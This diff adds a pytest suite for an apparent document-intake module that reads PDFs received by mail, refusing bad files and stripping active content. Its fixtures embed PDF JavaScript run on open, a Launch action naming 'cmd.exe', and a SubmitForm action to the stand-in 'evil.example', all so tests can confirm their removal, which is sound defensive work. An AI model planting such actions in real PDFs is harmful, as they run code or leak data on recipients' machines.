@@ -1,0 +1,296 @@
+"""Files as they come by mail: each is included clean, or refused with its reason; none stops the package."""
+
+from __future__ import annotations
+
+import contextlib
+import io
+
+import pikepdf
+import pypdf
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from pikepdf import Array, Dictionary, Name, Pdf, String
+
+from payclerk_core.documents.package_source import MOST_PAGES, NotIncludedError, read_source
+from payclerk_core.documents.typeset import typeset
+
+CODE = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+
+
+def saved(pdf, **options):
+    out = io.BytesIO()
+    pdf.save(out, static_id=True, **options)
+    return out.getvalue()
+
+
+def blank(pages=1):
+    pdf = Pdf.new()
+    for _ in range(pages):
+        pdf.add_blank_page(page_size=(612, 792))
+    return pdf
+
+
+def plain(pages=1):
+    return saved(blank(pages))
+
+
+def printed():
+    return typeset("placeholder.typ", {"title": "A delivery ticket", "reason": "Delivered.", "sha256": "0"})
+
+
+def appearance(pdf, text):
+    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
+    stream = pdf.make_stream(f"BT /F 12 Tf 2 4 Td ({text}) Tj ET".encode())
+    stream.stream_dict = Dictionary(
+        Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 200, 20], Resources=Dictionary(Font=Dictionary(F=font))
+    )
+    return stream
+
+
+def with_field(pdf, kind, value, text="signed or typed", name="amount", *, inherited=False):
+    """A field of this kind on the first page, with its appearance."""
+    widget = Dictionary(
+        Type=Name.Annot, Subtype=Name.Widget, Rect=[100, 100, 300, 120], T=String(name), V=value, F=4,
+        AP=Dictionary(N=appearance(pdf, text)),
+    )  # fmt: skip
+    if not inherited:
+        widget.FT = kind
+    field = pdf.make_indirect(widget)
+    page = pdf.pages[0]
+    page.Annots = Array([*page.get("/Annots", []), field])
+    top = pdf.make_indirect(Dictionary(FT=kind, Kids=Array([field]))) if inherited else field
+    form = pdf.Root.get("/AcroForm", Dictionary(Fields=Array([])))
+    form.Fields.append(top)
+    pdf.Root.AcroForm = form
+    return pdf
+
+
+def with_annotation(**keys):
+    pdf = blank()
+    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=[0, 0, 10, 10], **keys))])
+    return saved(pdf)
+
+
+def with_outline(depth):
+    pdf = blank(3)
+    with pdf.open_outline() as outline:
+        rows = outline.root
+        for level in range(depth):
+            rows.append(pikepdf.OutlineItem(f"Level {level + 1}", level % 3))
+            rows = rows[-1].children
+    return saved(pdf)
+
+
+def looped_outline():
+    pdf = blank()
+    item = pdf.make_indirect(Dictionary(Title=String("Loop"), Dest=Array([pdf.pages[0].obj, Name.Fit])))
+    item.Next = item
+    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
+    return saved(pdf)
+
+
+def encrypted(user):
+    return saved(blank(), encryption=pikepdf.Encryption(user=user, owner="owner"))
+
+
+REFUSED = {
+    "empty": (b"", "empty"),
+    "a web page": (b"<!DOCTYPE html><html>Log in to download</html>", "web page"),
+    "another web page": (b"\r\n  <HTML><body>", "web page"),
+    "a photo": (b"\xff\xd8\xff\xe0 not a pdf", "not a PDF"),
+    "only the mark": (b"%PDF-1.7\n", "damaged"),
+    "cut off early": (plain()[:60], "damaged"),
+    "no pages": (saved(Pdf.new()), "no pages"),
+    "a password": (encrypted("secret"), "password"),
+    "too many pages": (plain(MOST_PAGES + 1), "at most"),
+}
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_what_cannot_be_included_says_why(name):
+    content, why = REFUSED[name]
+    with pytest.raises(NotIncludedError, match=why):
+        read_source(content)
+
+
+def turned():
+    pdf = Pdf.open(io.BytesIO(printed()))
+    pdf.pages[0].Rotate = 90
+    return saved(pdf)
+
+
+def cropped():
+    pdf = Pdf.open(io.BytesIO(printed()))
+    pdf.pages[0].MediaBox = [-50, -50, 700, 900]
+    pdf.pages[0].CropBox = [30, 40, 500, 600]
+    return saved(pdf)
+
+
+INCLUDED = {
+    "plain": (plain(2), 2),
+    "printed": (printed(), 1),
+    "bytes before the mark": (b"\r\n\r\n" + plain(), 1),
+    "empty user password": (encrypted(""), 1),
+    "turned": (turned(), 1),
+    "cropped": (cropped(), 1),
+    "looped outline": (looped_outline(), 1),
+    "deep outline": (with_outline(40), 3),
+}
+
+
+@pytest.mark.parametrize("name", INCLUDED)
+def test_what_can_be_read_is_included(name):
+    content, pages = INCLUDED[name]
+    source = read_source(content)
+    assert source.pages == pages
+    with Pdf.open(io.BytesIO(source.pdf)) as pdf:
+        assert len(pdf.pages) == pages
+        assert not pdf.is_encrypted
+        assert pdf.check_pdf_syntax() == []
+
+
+def test_the_view_of_a_turned_and_cropped_page_is_kept():
+    with Pdf.open(io.BytesIO(read_source(turned()).pdf)) as pdf:
+        assert pdf.pages[0].Rotate == 90
+    with Pdf.open(io.BytesIO(read_source(cropped()).pdf)) as pdf:
+        assert [int(edge) for edge in pdf.pages[0].CropBox] == [30, 40, 500, 600]
+
+
+def test_a_damaged_file_is_repaired_and_says_so():
+    whole = plain(3)
+    source = read_source(whole[: whole.index(b"startxref")])
+    assert source.pages == 3
+    assert "was damaged and is repaired here" in source.lost
+
+
+def test_both_values_of_fields_with_one_name_stay_visible():
+    pdf = with_field(with_field(blank(), Name.Tx, String("100"), "100"), Name.Tx, String("200"), "200")
+    source = read_source(saved(pdf))
+    with Pdf.open(io.BytesIO(source.pdf)) as flat:
+        assert "/AcroForm" not in flat.Root
+        assert not flat.pages[0].get("/Annots", [])
+        drawn = b"".join(form.read_bytes() for form in flat.pages[0].Resources.XObject.values())
+    assert b"100" in drawn
+    assert b"200" in drawn
+
+
+@pytest.mark.parametrize("inherited", [False, True])
+def test_a_signed_file_keeps_its_picture_and_its_original(inherited):
+    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), Contents=String(b"\x00" * 8))
+    source = read_source(saved(with_field(blank(), Name.Sig, value, inherited=inherited)))
+    assert source.lost == ("digitally signed",)
+    assert "/Annots" not in pypdf.PdfReader(io.BytesIO(source.pdf)).pages[0]
+    assert "signed or typed" in pypdf.PdfReader(io.BytesIO(source.pdf)).pages[0].extract_text()
+
+
+def test_a_field_waiting_for_a_signature_is_not_a_signature():
+    pdf = with_field(blank(), Name.Sig, Dictionary())
+    del pdf.Root.AcroForm.Fields[0]["/V"]
+    assert read_source(saved(pdf)).lost == ()
+
+
+def test_fields_in_a_loop_end():
+    pdf = with_field(blank(), Name.Tx, String("1"))
+    field = pdf.Root.AcroForm.Fields[0]
+    field.Kids = Array([field])
+    with contextlib.suppress(NotIncludedError):
+        read_source(saved(pdf))
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        CODE,
+        Dictionary(S=Name.Launch, F=String("cmd.exe")),
+        Dictionary(S=Name.SubmitForm, F=String("http://evil.example")),
+        Dictionary(S=Name.URI, URI=String("http://a.example"), Next=CODE),
+    ],
+)
+def test_a_link_that_acts_no_longer_does(action):
+    source = read_source(with_annotation(Subtype=Name.Link, A=action, AA=Dictionary(U=CODE), PA=CODE))
+    assert b"JavaScript" not in source.pdf
+    with Pdf.open(io.BytesIO(source.pdf)) as pdf:
+        for note in pdf.pages[0].get("/Annots", []):
+            assert not {"/A", "/AA", "/PA"} & set(note.keys())
+
+
+def test_a_plain_link_stays():
+    link = Dictionary(S=Name.URI, URI=String("https://supplier.example"))
+    source = read_source(with_annotation(Subtype=Name.Link, A=link))
+    with Pdf.open(io.BytesIO(source.pdf)) as pdf:
+        assert str(pdf.pages[0].Annots[0].A.URI) == "https://supplier.example"
+
+
+@pytest.mark.parametrize("key", ["/OpenAction", "/AA"])
+def test_nothing_runs_when_the_file_opens(key):
+    pdf = blank()
+    pdf.Root[key] = CODE
+    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("run"), CODE])))
+    pdf.pages[0].AA = Dictionary(O=CODE)
+    assert b"JavaScript" not in read_source(saved(pdf)).pdf
+
+
+def embedded():
+    pdf = blank()
+    pdf.attachments["inner.txt"] = b"inside"
+    return saved(pdf)
+
+
+def portfolio():
+    pdf = Pdf.open(io.BytesIO(embedded()))
+    pdf.Root.Collection = Dictionary(Type=Name.Collection)
+    return saved(pdf)
+
+
+def hidden_layer():
+    pdf = blank()
+    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Notes")))
+    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))
+    return saved(pdf)
+
+
+def xfa():
+    pdf = with_field(blank(), Name.Tx, String("1"))
+    pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp/>")
+    return saved(pdf)
+
+
+@pytest.mark.parametrize(
+    ("content", "why"),
+    [
+        (embedded(), "holds other files or media"),
+        (portfolio(), "holds other files or media"),
+        (with_annotation(Subtype=Name.FileAttachment), "holds other files or media"),
+        (with_annotation(Subtype=Name.RichMedia), "holds other files or media"),
+        (hidden_layer(), "has hidden layers, shown here"),
+        (xfa(), "an XFA form"),
+    ],
+)
+def test_what_flat_pages_lose_is_said(content, why):
+    assert read_source(content).lost == (why,)
+
+
+def test_a_deep_outline_is_cut_and_the_rest_kept():
+    marks = read_source(with_outline(40)).bookmarks
+    assert [mark.depth for mark in marks] == list(range(1, 9))
+    assert [mark.page for mark in marks[:4]] == [0, 1, 2, 0]
+
+
+@given(st.integers(0, len(printed())), st.binary(max_size=20))
+@settings(max_examples=150, deadline=None)
+def test_any_damage_is_repaired_or_refused(at, noise):
+    whole = printed()
+    try:
+        assert read_source(whole[:at] + noise + whole[at + len(noise) :]).pages > 0
+    except NotIncludedError as refused:
+        assert str(refused).endswith(".")
+
+
+@given(st.integers(0, len(printed())))
+@settings(max_examples=50, deadline=None)
+def test_any_cut_is_repaired_or_refused(at):
+    try:
+        assert read_source(printed()[:at]).pages > 0
+    except NotIncludedError as refused:
+        assert str(refused)
